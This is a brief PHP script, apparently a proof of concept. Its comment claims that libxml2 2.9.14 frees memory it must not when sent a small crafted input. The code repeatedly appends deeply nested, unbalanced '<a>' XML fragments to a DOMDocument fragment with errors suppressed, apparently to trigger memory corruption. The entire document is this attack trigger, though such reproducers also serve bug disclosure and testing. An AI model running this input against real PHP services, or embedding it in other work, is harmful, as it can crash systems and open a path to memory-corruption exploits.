<?php // 771 bytes that anyone can send: libxml2 2.9.14 frees what it must not.
$f = (new DOMDocument)->createDocumentFragment();
for ($i = 0; $i < 20; $i++) {
    @$f->appendXML(str_repeat('<a>', 257) . str_repeat('</a>', 257));
    @$f->appendXML(str_repeat('<a>', 257));
}
echo 'done';
